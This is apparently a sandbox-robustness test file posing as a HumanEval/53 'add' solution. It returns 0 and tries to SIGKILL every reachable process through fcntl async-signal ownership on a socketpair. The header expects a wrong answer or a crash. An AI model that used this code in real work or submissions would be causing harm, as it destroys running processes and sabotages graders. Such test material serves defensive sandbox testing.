# task: HumanEval/53
# expect: wrong_answer crash
# the kernel sends the signal: to every process that has a number
import fcntl, os, signal, socket
def add(x, y):
    a, b = socket.socketpair()
    for pid in list(range(1, 300)) + [-1]:
        try:
            fcntl.fcntl(a, 8, pid)
            fcntl.fcntl(a, 10, signal.SIGKILL)
            fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            b.send(b'x')
        except OSError:
            pass
    return 0
